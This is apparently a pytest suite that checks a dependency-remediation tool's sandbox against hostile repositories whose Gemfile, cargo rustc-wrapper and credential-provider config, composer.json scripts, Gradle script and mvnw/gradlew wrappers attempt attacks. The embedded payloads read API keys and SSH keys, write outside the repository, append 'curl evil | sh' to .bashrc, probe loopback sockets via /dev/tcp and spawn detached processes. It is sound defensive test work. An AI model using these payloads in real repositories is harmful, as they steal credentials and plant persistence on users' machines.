"""Hostile repositories through the lock tools `--regenerate` runs, and the wrapper `--verify` runs.

`bundle lock` evaluates the Gemfile as Ruby, `cargo update` runs the repository's `[build] rustc-wrapper`
(to ask `rustc -vV`), `composer update` reads a composer.json whose scripts and config point outside, and
`--verify` on a Maven project runs the repository's own `./mvnw`. Each attack is a repository whose code does
what an attacker's would, with the operator's paths written into it, run through the real CLI with a locked
vulnerable dependency so the run really reaches the tool (offline: a file:// gem source, a local cargo
registry, a composer path repository). The assertions are on effects: nothing written outside the work copy,
no secret in anything the run wrote, no connection to the operator's daemon socket (nor, under --verify, to a
loopback port), no process left, the user's checkout unchanged, and the run's own account of what happened.
A lock tool's step has a network namespace of its own and reaches registries only through the planner's egress
proxy (planner/egress.py), so no attack reaches a loopback TCP port either.
"""

from __future__ import annotations

import hashlib
import json
import os
import secrets
import shutil
import subprocess
import textwrap
from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import commit_all, git, run_cli
from test_dispatch_remediation import osv
from test_sandbox_attacks import API_KEY, Listener, victim  # noqa: F401  (victim: the fixture, reused)

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None and not Path("/usr/bin/bwrap").exists(),
                                reason="bubblewrap is not installed (apt install bubblewrap)")

SECRETS = (b"attacker-wants-this", API_KEY.encode())


def _targets(v: dict, tmp_path: Path) -> dict[str, Path]:
    """Where an attacker's code tries to write: the operator's home, a folder beside the repository (under the
    host's /tmp), and a path of its own straight under /tmp."""
    return {"home": v["user"] / "pwned-marker", "beside": tmp_path / "outside-marker",
            "tmp": Path("/tmp") / f"tccm-attack-{secrets.token_hex(6)}", "late": tmp_path / "late-marker"}


def _no_secret_anywhere(tmp_path: Path, v: dict, state: dict, *texts: str) -> None:
    """Neither the key nor the API key in the CLI's output, nor in any file under the test's folder (the
    planner's home: reports, provenance, stores; the operator's cache; the repositories), but the key itself."""
    report = Path(state["report_path"])
    assert report.is_file() and report.resolve().is_relative_to(tmp_path.resolve())  # so it is among those read
    assert (tmp_path / "planner-home").is_dir()
    for text in texts:
        for leaked in SECRETS:
            assert leaked.decode() not in text
    key = v["user"] / ".ssh" / "id_rsa"
    for path in tmp_path.rglob("*"):
        if path.is_file() and not path.is_symlink() and path != key:
            data = path.read_bytes()
            assert not any(s in data for s in SECRETS), f"a secret was written to {path}"


def _nothing_escaped(v: dict, targets: dict[str, Path]) -> None:
    assert (v["user"] / ".bashrc").read_text() == "# the operator's profile\n"
    assert (v["cache"] / "codecache.marshal").read_bytes() == b"trusted"
    for name, target in targets.items():
        assert not target.exists(), f"the attack wrote {target} ({name})"
    # the detached children would still be sleeping, had they outlived the step: no fixed wait needed
    late = str(targets["late"])
    assert subprocess.run(["pgrep", "-f", late], capture_output=True).returncode == 1, "a process outlived the step"
    assert v["listener"].hits == [], f"the attack reached the operator's listeners: {v['listener'].hits}"
    assert not list(v["temp"].glob("tccm-planner-*/*")), "the work copy was left behind"


def _rows(state: dict) -> list[dict]:
    return [row for item in state["items"] for row in (item.get("plan_data") or {}).get("regeneration") or []]


def _dispatch(repo: Path, advisories: Path, env: dict[str, str], *flags: str) -> tuple[dict, str, str]:
    done = run_cli("dispatch", "vulnerability-remediation", "--repo", str(repo), "--advisories", str(advisories),
                   *flags, "--json", env=env)
    assert "Traceback" not in done.stderr, done.stderr
    return json.loads(done.stdout), done.stdout, done.stderr


# --- RubyGems: `bundle lock` evaluates the Gemfile ---------------------------------------------------------------

GEMFILE_ATTACK = """\
source "file://{server}/"
require "socket"
loot = ["key=" + ENV["OPENAI_API_KEY"].to_s, "home=" + ENV["HOME"].to_s]
begin
  loot << "ssh=" + File.read("{key}")
rescue StandardError, SystemCallError => e
  loot << "ssh=none " + e.class.to_s
end
["{home_marker}", "{beside}", "{tmp}"].each do |target|
  begin
    File.write(target, "pwned")
    loot << "wrote " + target
  rescue StandardError, SystemCallError => e
    loot << "nowrite " + e.class.to_s
  end
end
begin
  File.open("{bashrc}", "a") {{ |f| f.puts "curl evil | sh" }}
rescue StandardError, SystemCallError
end
begin
  Socket.tcp("127.0.0.1", {port}, connect_timeout: 2).close
  loot << "tcp reached"
rescue StandardError, SystemCallError => e
  loot << "tcp " + e.class.to_s
end
begin
  UNIXSocket.new("{sock}").close
  loot << "unix reached"
rescue StandardError, SystemCallError => e
  loot << "unix " + e.class.to_s
end
Process.detach(Process.spawn("sh", "-c", "sleep 4; echo late > {late}", pgroup: true, in: "/dev/null",
                             out: "/dev/null", err: "/dev/null"))
unless fork
  Process.setsid
  sleep 4
  File.write("{late}", "late")
  exit!(0)
end
$stderr.puts "ATTACK-REPORT " + loot.join(" | ")
tag = "# LO" + "OT "
unless File.readlines(__FILE__).any? {{ |line| line.start_with?(tag) }}
  File.open(__FILE__, "a") {{ |f| f.puts tag + loot.join(" | ").gsub("\\n", " ") }}
end
gem "tinygem", "1.0.0"
"""


def _gem_server(tmp_path: Path) -> Path:
    """A gem server on disk (file:// source, `gem generate_index`) holding tinygem 1.0.0 and 1.0.2."""
    server = tmp_path / "gem-server"
    (server / "gems").mkdir(parents=True)
    env = {**os.environ, "GEM_HOME": str(tmp_path / "gem-home"), "HOME": str(tmp_path)}
    for version in ("1.0.0", "1.0.2"):
        src = tmp_path / f"tinygem-{version}"
        (src / "lib").mkdir(parents=True)
        (src / "lib" / "tinygem.rb").write_text("module Tinygem; end\n")
        (src / "tinygem.gemspec").write_text(
            f'Gem::Specification.new do |s|\n  s.name = "tinygem"\n  s.version = "{version}"\n  s.summary = "t"\n'
            f'  s.authors = ["t"]\n  s.files = ["lib/tinygem.rb"]\nend\n')
        subprocess.run(["gem", "build", "tinygem.gemspec"], cwd=src, check=True, capture_output=True, env=env)
        shutil.copy(src / f"tinygem-{version}.gem", server / "gems")
    subprocess.run(["gem", "generate_index", "-d", str(server)], check=True, capture_output=True, env=env)
    return server


@pytest.mark.skipif(shutil.which("bundle") is None or shutil.which("gem") is None,
                    reason="bundler is not installed (apt-get install -y ruby bundler)")
def test_a_gemfile_evaluated_by_bundle_lock_reads_writes_and_reaches_nothing(
        victim: dict, make_repo: Callable[..., Path], tmp_path: Path) -> None:  # noqa: F811
    v = victim
    targets = _targets(v, tmp_path)
    gemfile = GEMFILE_ATTACK.format(
        server="{server}", key=v["user"] / ".ssh" / "id_rsa", home_marker=targets["home"], beside=targets["beside"],
        tmp=targets["tmp"], bashrc=v["user"] / ".bashrc", port=v["listener"].port,
        sock=v["user"] / "run" / "tccm-planner" / "daemon.sock", late=targets["late"])
    repo, server, advisories = _bundle_repo(make_repo, tmp_path, gemfile)
    env = {**v["env"], "PLANNER_SANDBOX_RO": str(server)}  # the operator's local gem mirror, read-only
    before = {p: (repo / p).read_text() for p in ("Gemfile", "Gemfile.lock")}

    state, out, err = _dispatch(repo, advisories, env, "--regenerate")

    rows = _rows(state)
    assert [r["command"] for r in rows] == ["bundle lock --update tinygem --conservative"], out
    patch = state.get("patch") or ""
    # bundler ran in the sandbox: the Gemfile's code ran there and saw nothing of the operator's
    assert rows[0]["status"] == "regenerated" and state["status"] == "succeeded", out
    assert "-    tinygem (1.0.0)\n+    tinygem (1.0.2)" in patch
    loot = next(line for line in patch.splitlines() if line.startswith("+# LOOT"))
    assert "key= | home=/tmp/home | ssh=none Errno::ENOENT" in loot
    assert "unix reached" not in loot and "tcp reached" not in loot and f"wrote {targets['home']}" not in loot
    # (a write to a host path under /tmp lands in the sandbox's private /tmp, and is gone with it)
    _nothing_escaped(v, targets)
    _no_secret_anywhere(tmp_path, v, state, out, err, patch)
    assert {p: (repo / p).read_text() for p in before} == before
    assert git(repo, "status", "--porcelain") == ""


def _bundle_repo(make_repo: Callable[..., Path], tmp_path: Path, gemfile: str) -> tuple[Path, Path, Path]:
    """A repository whose Gemfile is `gemfile` (ending `gem "tinygem", "1.0.0"`), locked by bundler itself
    with the Gemfile's code defused (the operator never runs it); the gem server; the advisories."""
    server = _gem_server(tmp_path)
    gemfile = gemfile.replace("{server}", str(server))
    repo = make_repo({"Gemfile": gemfile}, commit=False)
    clean = "\n".join(line for line in gemfile.splitlines() if line.startswith(("source", "gem "))) + "\n"
    scratch = tmp_path / "lock-maker"
    scratch.mkdir()
    (scratch / "Gemfile").write_text(clean)
    subprocess.run(["bundle", "lock"], cwd=scratch, check=True, capture_output=True,
                   env={**os.environ, "HOME": str(tmp_path), "BUNDLE_USER_HOME": str(tmp_path / "bundle-user")})
    shutil.copy(scratch / "Gemfile.lock", repo / "Gemfile.lock")
    assert "tinygem (1.0.0)" in (repo / "Gemfile.lock").read_text()
    commit_all(repo, "a Gemfile with an attack in it")
    advisories = tmp_path / "advisories"
    osv(advisories, "GHSA-tiny-gem0-0001", "RubyGems", "tinygem", [[{"introduced": "0"}, {"fixed": "1.0.2"}]])
    return repo, server, advisories


@pytest.mark.skipif(shutil.which("bundle") is None or shutil.which("gem") is None,
                    reason="bundler is not installed (apt-get install -y ruby bundler)")
def test_a_gemfile_under_regenerate_does_not_reach_a_loopback_tcp_port(
        victim: dict, make_repo: Callable[..., Path], tmp_path: Path) -> None:  # noqa: F811
    gemfile = ('source "file://{server}/"\nrequire "socket"\n'
               f'begin\n  Socket.tcp("127.0.0.1", {victim["listener"].port}, connect_timeout: 2).close\n'
               'rescue StandardError, SystemCallError\nend\ngem "tinygem", "1.0.0"\n')
    repo, server, advisories = _bundle_repo(make_repo, tmp_path, gemfile)
    state, out, _ = _dispatch(repo, advisories, {**victim["env"], "PLANNER_SANDBOX_RO": str(server)}, "--regenerate")
    assert [r["status"] for r in _rows(state)] == ["regenerated"], out  # bundler ran, and with it the Gemfile
    assert victim["listener"].hits == []


# --- Cargo: `cargo update` runs the repository's `[build] rustc-wrapper` ------------------------------------------

CARGO_ATTACK = """\
#!/bin/bash
# cargo runs this as `rustc-wrapper RUSTC -vV` (it asks the compiler's version even to update a lockfile)
loot="key=$OPENAI_API_KEY | home=$HOME"
if key=$(cat {key} 2>&1); then loot="$loot | ssh=$key"; else loot="$loot | ssh=none"; fi
for target in {home_marker} {beside} {tmp} {target_dir}/pwned; do
  mkdir -p "$(dirname "$target")" 2>/dev/null
  echo pwned > "$target" 2>/dev/null  # under /tmp it lands in the sandbox's private /tmp, gone with it
done
echo 'curl evil | sh' >> {bashrc} 2>/dev/null
{python} -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('{sock}')" 2>/dev/null \\
  && loot="$loot | unix reached"
setsid bash -c 'sleep 4; echo late > {late}' > /dev/null 2>&1 < /dev/null &
nohup bash -c 'sleep 4; echo late > {late}' > /dev/null 2>&1 < /dev/null &
echo "ATTACK-REPORT $loot" >&2
grep -q '^# LOOT' Cargo.toml || echo "# LOOT $loot" | tr '\\n' ' ' >> Cargo.toml
exec "$@"
"""


def _cargo() -> str | None:
    home = Path.home() / ".cargo" / "bin" / "cargo"
    return shutil.which("cargo") or (str(home) if home.is_file() else None)


def _cargo_env(root: Path) -> dict[str, str]:
    return {**os.environ, "CARGO_HOME": str(root / "cargo-home"), "CARGO_NET_OFFLINE": "true",
            "PATH": f"{Path(str(_cargo())).parent}:{os.environ.get('PATH', '')}"}


def _local_registry(root: Path, versions: list[str]) -> Path:
    """A cargo local registry holding smallvec at `versions` (packaged by cargo itself, empty libraries), as
    tests/test_remediation_cargo.py makes it."""
    registry = root / "registry"
    (registry / "index" / "sm" / "al").mkdir(parents=True)
    lines = []
    for version in versions:
        crate = root / "crates" / f"smallvec-{version}"
        (crate / "src").mkdir(parents=True)
        (crate / "src" / "lib.rs").write_text("")
        (crate / "Cargo.toml").write_text(f'[package]\nname = "smallvec"\nversion = "{version}"\nedition = "2018"\n'
                                          'license = "MIT"\ndescription = "test"\n')
        subprocess.run([str(_cargo()), "package", "--offline", "--allow-dirty", "--no-verify", "-q"], cwd=crate,
                       env=_cargo_env(root), check=True, capture_output=True)
        packed = crate / "target" / "package" / f"smallvec-{version}.crate"
        shutil.copy(packed, registry / packed.name)
        lines.append(json.dumps({"name": "smallvec", "vers": version, "deps": [], "features": {}, "yanked": False,
                                 "cksum": hashlib.sha256(packed.read_bytes()).hexdigest()}))
    (registry / "index" / "sm" / "al" / "smallvec").write_text("\n".join(lines) + "\n")
    return registry


@pytest.mark.skipif(_cargo() is None, reason="cargo is not installed")
def test_a_cargo_config_running_a_rustc_wrapper_under_cargo_update_escapes_nothing(
        victim: dict, make_repo: Callable[..., Path], tmp_path: Path) -> None:  # noqa: F811
    v = victim
    cargo = str(_cargo())
    targets = _targets(v, tmp_path)
    target_dir = tmp_path / "outside-target"
    registry = _local_registry(tmp_path, ["1.6.0", "1.6.1"])
    package = '[package]\nname = "app"\nversion = "0.1.0"\nedition = "2021"\n\n[dependencies]\n'
    config = textwrap.dedent(f"""\
        [source.crates-io]
        replace-with = "local"

        [source.local]
        local-registry = "vendor-registry"

        [build]
        rustc-wrapper = "./evil.sh"
        target-dir = "{target_dir}"

        [net]
        git-fetch-with-cli = true

        [registry]
        global-credential-providers = ["/bin/sh -c 'echo cred > {targets["beside"]}'"]

        [registries.evil]
        index = "sparse+http://127.0.0.1:9/index/"
        credential-provider = ["/bin/sh", "-c", "echo cred > {targets['home']}"]
    """)
    wrapper = CARGO_ATTACK.format(
        key=v["user"] / ".ssh" / "id_rsa", home_marker=targets["home"], beside=targets["beside"], tmp=targets["tmp"],
        target_dir=target_dir, bashrc=v["user"] / ".bashrc", python=shutil.which("python3") or "python3",
        sock=v["user"] / "run" / "tccm-planner" / "daemon.sock", late=targets["late"])
    source = config.split("[build]")[0]
    repo = make_repo({"Cargo.toml": package + 'smallvec = "=1.6.0"\n', "src/lib.rs": "", ".cargo/config.toml": source},
                     commit=False)
    shutil.copytree(registry, repo / "vendor-registry")
    subprocess.run([cargo, "generate-lockfile"], cwd=repo, env=_cargo_env(tmp_path), check=True, capture_output=True)
    (repo / "Cargo.toml").write_text(package + 'smallvec = "1.6"\n')
    (repo / ".cargo" / "config.toml").write_text(config)  # after the lock is made: the operator never runs it
    (repo / "evil.sh").write_text(wrapper)
    (repo / "evil.sh").chmod(0o755)
    commit_all(repo, "a cargo config with an attack in it")
    advisories = tmp_path / "advisories"
    osv(advisories, "RUSTSEC-0000-0001", "crates.io", "smallvec", [[{"introduced": "0"}, {"fixed": "1.6.1"}]])
    env = {**v["env"], "PATH": _cargo_env(tmp_path)["PATH"]}
    rustup = Path(os.environ.get("RUSTUP_HOME") or Path("~/.rustup").expanduser())
    if rustup.is_dir():  # rustup's proxy finds its toolchains there (the operator's declared read-only folder)
        env.update({"RUSTUP_HOME": str(rustup), "PLANNER_SANDBOX_RO": str(rustup),
                    "PLANNER_SANDBOX_ENV": "RUSTUP_HOME,RUSTUP_TOOLCHAIN"})
    before = {p: (repo / p).read_text() for p in ("Cargo.toml", "Cargo.lock", ".cargo/config.toml")}

    state, out, err = _dispatch(repo, advisories, env, "--regenerate")

    rows = _rows(state)
    assert [r["command"] for r in rows] == ["cargo update --workspace && cargo update -p smallvec --precise 1.6.1"], out
    patch = state.get("patch") or ""
    # cargo ran in the sandbox, ran the wrapper there, and the wrapper saw nothing of the operator's
    assert rows[0]["status"] == "regenerated" and state["status"] == "succeeded", out
    assert '-version = "1.6.0"\n+version = "1.6.1"' in patch
    loot = next(line for line in patch.splitlines() if line.startswith("+# LOOT"))
    assert "key= | home=/tmp/home | ssh=none" in loot
    assert "unix reached" not in loot
    assert not target_dir.exists()
    _nothing_escaped(v, targets)
    _no_secret_anywhere(tmp_path, v, state, out, err, patch)
    assert {p: (repo / p).read_text() for p in before} == before
    assert git(repo, "status", "--porcelain") == ""


# --- Composer: scripts and a config pointing outside ----------------------------------------------------------------


@pytest.mark.skipif(shutil.which("composer") is None or shutil.which("php") is None,
                    reason="composer is not installed (apt-get install -y composer php-cli)")
def test_composer_scripts_and_outside_config_under_composer_update_escape_nothing(
        victim: dict, make_repo: Callable[..., Path], tmp_path: Path) -> None:  # noqa: F811
    v = victim
    targets = _targets(v, tmp_path)
    outside = tmp_path / "composer-outside"
    php = ("@php -r \"file_put_contents('{m}', getenv('OPENAI_API_KEY') . @file_get_contents('{k}'));"
           " @fsockopen('127.0.0.1', {p});\"")
    script = php.format(m=targets["home"], k=v["user"] / ".ssh" / "id_rsa", p=v["listener"].port)
    shell = f"sh -c 'echo pwned > {targets['beside']}; setsid sh -c \"sleep 4; echo late > {targets['late']}\" &'"
    hostile = {"config": {"cache-dir": str(outside / "cache"), "data-dir": str(outside / "data"),
                          "vendor-dir": str(outside / "vendor"), "bin-dir": str(outside / "bin"),
                          "archive-dir": str(outside / "archive"), "allow-plugins": True},
               "scripts": {name: [script, shell] for name in (
                   "pre-update-cmd", "post-update-cmd", "pre-install-cmd", "post-install-cmd", "pre-autoload-dump",
                   "post-autoload-dump", "pre-package-install", "post-package-update", "pre-dependencies-solving")}}
    app = {"name": "acme/app", "require": {"acme/lib": "^1.2"},
           "repositories": [{"type": "path", "url": "pkgs/lib"}, {"packagist.org": False}]}
    repo = make_repo({"composer.json": json.dumps(app, indent=4) + "\n",
                      "pkgs/lib/composer.json": '{"name": "acme/lib", "version": "1.2.3", "type": "library"}\n'},
                     commit=False)
    subprocess.run(["composer", "update", "--no-install", "--no-scripts", "--no-plugins", "-n"], cwd=repo,
                   check=True, capture_output=True, timeout=120, env={**os.environ, "COMPOSER_ALLOW_SUPERUSER": "1",
                                                                      "COMPOSER_HOME": str(tmp_path / "composer-home")})
    assert '"version": "1.2.3"' in (repo / "composer.lock").read_text()
    # the hostile parts after the lock is made (the operator never runs them), and the fixed release beside it
    (repo / "composer.json").write_text(json.dumps({**app, **hostile}, indent=4) + "\n")
    (repo / "pkgs/lib/composer.json").write_text('{"name": "acme/lib", "version": "1.2.5", "type": "library"}\n')
    commit_all(repo, "a composer.json with an attack in it")
    advisories = tmp_path / "advisories"
    osv(advisories, "GHSA-acme-lib0-0001", "Packagist", "acme/lib", [[{"introduced": "0"}, {"fixed": "1.2.5"}]])
    before = {p: (repo / p).read_text() for p in ("composer.json", "composer.lock")}

    state, out, err = _dispatch(repo, advisories, v["env"], "--regenerate")

    rows = _rows(state)
    assert [r["command"] for r in rows] == [
        "composer update acme/lib --with-dependencies --no-install --no-scripts --no-plugins"], out
    patch = state.get("patch") or ""
    assert rows[0]["status"] == "regenerated" and state["status"] == "succeeded", out
    assert '"version": "1.2.5"' in patch
    assert not outside.exists()
    _nothing_escaped(v, targets)  # no script ran at all
    _no_secret_anywhere(tmp_path, v, state, out, err, patch)
    assert {p: (repo / p).read_text() for p in before} == before
    assert git(repo, "status", "--porcelain") == ""


# --- Maven / Gradle: `--verify` runs the repository's own wrapper script ----------------------------------------------

WRAPPER_ATTACK = """\
#!/bin/bash
loot="key=$OPENAI_API_KEY | home=$HOME"
if key=$(cat {key} 2>&1); then loot="$loot | ssh=$key"; else loot="$loot | ssh=none"; fi
for target in {home_marker} {beside} {tmp}; do echo pwned > "$target" 2>/dev/null; done
echo 'curl evil | sh' >> {bashrc} 2>/dev/null
(exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null && loot="$loot | tcp reached"
{python} -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('{sock}')" 2>/dev/null \\
  && loot="$loot | unix reached"
setsid bash -c 'sleep 4; echo late > {late}' > /dev/null 2>&1 < /dev/null &
echo "ATTACK-REPORT $loot" | tr '\\n' ' '
echo
exit 0
"""
BUILDS = {
    "mvnw": ("pom.xml", """<project xmlns="http://maven.apache.org/POM/4.0.0">
  <modelVersion>4.0.0</modelVersion>
  <groupId>com.acme</groupId>
  <artifactId>app</artifactId>
  <version>1.0.0</version>
  <dependencies>
    <dependency>
      <groupId>com.example</groupId>
      <artifactId>lib</artifactId>
      <version>1.0.0</version>
    </dependency>
  </dependencies>
</project>
"""),
    "gradlew": ("build.gradle", "plugins {\n    id 'java'\n}\n\ndependencies {\n"
                "    implementation 'com.example:lib:1.0.0'\n}\n"),
}


@pytest.mark.parametrize("wrapper", sorted(BUILDS))
def test_verify_runs_a_hostile_build_wrapper_in_the_sandbox(
        wrapper: str, victim: dict, make_repo: Callable[..., Path], tmp_path: Path) -> None:  # noqa: F811
    """`./mvnw test` / `./gradlew test` is the repository's own script (no mvn or gradle needed to run it):
    under `--verify` it runs in the sandbox without network, keys or home."""
    v = victim
    targets = _targets(v, tmp_path)
    build, text = BUILDS[wrapper]
    script = WRAPPER_ATTACK.format(
        key=v["user"] / ".ssh" / "id_rsa", home_marker=targets["home"], beside=targets["beside"], tmp=targets["tmp"],
        bashrc=v["user"] / ".bashrc", port=v["listener"].port, python=shutil.which("python3") or "python3",
        sock=v["user"] / "run" / "tccm-planner" / "daemon.sock", late=targets["late"])
    repo = make_repo({build: text, wrapper: script}, commit=False)
    (repo / wrapper).chmod(0o755)
    commit_all(repo, "a build wrapper with an attack in it")
    advisories = tmp_path / "advisories"
    osv(advisories, "GHSA-acme-mvn0-0001", "Maven", "com.example:lib", [[{"introduced": "0"}, {"fixed": "1.0.1"}]])
    before = (repo / build).read_text()

    state, out, err = _dispatch(repo, advisories, v["env"], "--verify")

    check = state.get("verification") or {}
    assert check.get("command") == f"./{wrapper} test", out
    assert check.get("isolation") == "bwrap" and check.get("passed") is True, check
    output = check.get("output_tail", "")
    assert "ATTACK-REPORT key= | home=/tmp/home | ssh=none" in output, output
    assert "tcp reached" not in output and "unix reached" not in output
    assert "1.0.1" in (state.get("patch") or "")
    _nothing_escaped(v, targets)
    _no_secret_anywhere(tmp_path, v, state, out, err)
    assert (repo / build).read_text() == before
    assert git(repo, "status", "--porcelain") == ""


GRADLE_ATTACK = """\
def loot = ["key=" + (System.getenv("OPENAI_API_KEY") ?: ""), "home=" + System.getenv("HOME")]
try { loot << "ssh=" + new File("{key}").text } catch (Exception e) { loot << "ssh=none" }
["{home_marker}", "{beside}", "{tmp}"].each { t -> try { new File(t).text = "pwned" } catch (Exception e) {} }
try { new Socket("127.0.0.1", {port}).close(); loot << "tcp reached" } catch (Exception e) {}
println "ATTACK-REPORT " + loot.join(" | ")
plugins {
    id 'java'
}
dependencyLocking {
    lockAllConfigurations()
}
dependencies {
    implementation 'com.example:lib:1.0.0'
}
"""


@pytest.mark.skipif(shutil.which("gradle") is None, reason="gradle is not installed (not on PATH): `gradle "
                    "dependencies --write-locks` evaluating a hostile build.gradle is not exercised here")
def test_a_build_gradle_evaluated_by_gradle_write_locks_escapes_nothing(
        victim: dict, make_repo: Callable[..., Path], tmp_path: Path) -> None:  # noqa: F811
    """Written for a machine with gradle (this one had none when it was written): the build script runs when
    gradle configures the project; whatever the lock's outcome (no registry offline), nothing leaves."""
    v = victim
    targets = _targets(v, tmp_path)
    script = GRADLE_ATTACK.format(
        key=v["user"] / ".ssh" / "id_rsa", home_marker=targets["home"], beside=targets["beside"], tmp=targets["tmp"],
        port=v["listener"].port)
    lock = "# This is a Gradle generated file for dependency locking.\n" \
           "com.example:lib:1.0.0=compileClasspath,runtimeClasspath\nempty=\n"
    repo = make_repo({"build.gradle": script, "settings.gradle": "rootProject.name = 'app'\n",
                      "gradle.lockfile": lock})
    advisories = tmp_path / "advisories"
    osv(advisories, "GHSA-acme-grd0-0001", "Maven", "com.example:lib", [[{"introduced": "0"}, {"fixed": "1.0.1"}]])
    state, out, err = _dispatch(repo, advisories, v["env"], "--regenerate")
    rows = _rows(state)
    assert [r["command"] for r in rows] == ["gradle dependencies --write-locks"], out
    assert "not installed" not in rows[0]["detail"], rows  # gradle ran, and with it the build script
    _nothing_escaped(v, targets)
    _no_secret_anywhere(tmp_path, v, state, out, err, state.get("patch") or "")
    assert git(repo, "status", "--porcelain") == ""
